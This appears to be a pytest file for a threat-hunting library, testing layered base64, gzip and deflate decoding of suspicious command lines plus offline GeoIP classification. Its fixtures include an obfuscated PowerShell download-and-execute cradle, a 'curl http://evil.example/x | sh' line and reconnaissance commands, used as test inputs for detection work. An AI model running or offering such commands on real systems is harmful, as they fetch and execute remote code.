"""Nested base64 decoding and GeoIP lookups (offline, Debian's geoip-database)."""

import base64
import gzip
import hashlib
import zlib

import pandas as pd
import pytest

from huntbook.enrichment import decode_frame, decode_nested, geolocate, geolocate_frame

INNER = 'IEX (New-Object Net.WebClient).DownloadString("http://10.1.2.3/a.ps1")'


def encoded_powershell():
    """-EncodedCommand (UTF-16LE) wrapping FromBase64String of a gzip stream."""
    compressed = base64.b64encode(gzip.compress(INNER.encode())).decode()
    script = (f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{compressed}'));"
              "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
              "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()")
    return script, "powershell.exe -nop -w hidden -EncodedCommand " + \
        base64.b64encode(script.encode("utf-16-le")).decode()


def test_powershell_encoded_command_then_gzip():
    script, command = encoded_powershell()
    layers = decode_nested(command)
    assert [(l.depth, l.parent, l.transforms) for l in layers] == [
        (1, -1, ("base64", "utf-16le")), (2, 0, ("base64", "gzip", "utf-8"))]
    assert layers[0].text == script and layers[1].text == INNER
    assert layers[1].sha256 == hashlib.sha256(INNER.encode()).hexdigest()
    assert layers[1].md5 == hashlib.md5(INNER.encode()).hexdigest()


def test_double_base64_and_raw_deflate_and_zlib():
    payload = b"curl http://evil.example/x | sh"
    twice = base64.b64encode(base64.b64encode(payload)).decode()
    layers = decode_nested(f"echo {twice} | base64 -d | base64 -d | sh")
    assert [l.text for l in layers][-1] == payload.decode() and layers[-1].depth == 2
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = deflater.compress(b"whoami /all; net user") + deflater.flush()
    assert [(l.transforms, l.text) for l in decode_nested(base64.b64encode(raw).decode())] == \
        [(("base64", "deflate", "utf-8"), "whoami /all; net user")]
    wrapped = base64.b64encode(zlib.compress(b"id; uname -a")).decode()
    assert decode_nested(wrapped)[0].transforms == ("base64", "zlib", "utf-8")


def test_binary_payload_is_reported_with_its_type():
    blob = base64.b64encode(b"MZ\x90\x00" + bytes(range(256))).decode()
    (layer,) = decode_nested(f"certutil -decode {blob}")
    assert layer.binary_type == "pe" and layer.text is None


@pytest.mark.parametrize("text", [
    "C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe",
    "d41d8cd98f00b204e9800998ecf8427e", "ThisIsJustALongIdentifierName", "", None])
def test_look_alikes_do_not_decode(text):
    assert decode_nested(text) == []


def test_gzip_bomb_is_capped():
    bomb = base64.b64encode(gzip.compress(b"ab " * (6 * 1024 * 1024), compresslevel=1)).decode()
    (layer,) = decode_nested(bomb)
    assert len(layer.data) == 16 * 1024 * 1024


def test_decode_frame_rows_and_final_text():
    _, command = encoded_powershell()
    frame = pd.DataFrame({"CommandLine": ["notepad.exe", command]}, index=["a", "b"])
    decoded = decode_frame(frame, "CommandLine")
    assert list(decoded["SourceIndex"]) == ["b", "b"]
    assert list(decoded["Transforms"]) == ["base64>utf-16le", "base64>gzip>utf-8"]
    assert set(decoded["FinalText"]) == {INNER}
    with pytest.raises(KeyError, match="Nope"):
        decode_frame(frame, "Nope")


# Country databases of Debian 12's geoip-database (data of December 2019).
@pytest.mark.parametrize("ip, category, country", [
    ("8.8.8.8", "public", "US"), ("81.2.69.160", "public", "GB"),
    ("2a00:1450:4001:81c::200e", "public", "DE"), ("::ffff:8.8.8.8", "public", "US"),
    ("10.1.2.3", "private", ""), ("172.16.5.4", "private", ""), ("192.168.0.1", "private", ""),
    ("fd00::1", "private", ""), ("127.0.0.1", "loopback", ""), ("::1", "loopback", ""),
    ("169.254.1.1", "link-local", ""), ("fe80::1", "link-local", ""),
    ("100.64.1.1", "shared", ""), ("224.0.0.1", "multicast", ""),
    ("192.0.2.5", "reserved", ""), ("240.0.0.1", "reserved", ""),
    ("0.0.0.0", "unspecified", ""), ("not-an-ip", "invalid", ""), (None, "invalid", "")])
def test_geolocation_and_ranges(ip, category, country):
    result = geolocate(ip)
    assert (result["Category"], result["CountryCode"]) == (category, country)
    if category == "public":
        assert result["CountryName"] and "GEO-1" in result["Database"]


def test_geolocate_frame_distinct_values():
    frame = pd.DataFrame({"IPAddress": ["8.8.8.8", "10.0.0.1", "8.8.8.8", None]})
    result = geolocate_frame(frame, "IPAddress")
    assert list(result["IpAddress"]) == ["8.8.8.8", "10.0.0.1"]
    assert list(result["Category"]) == ["public", "private"]
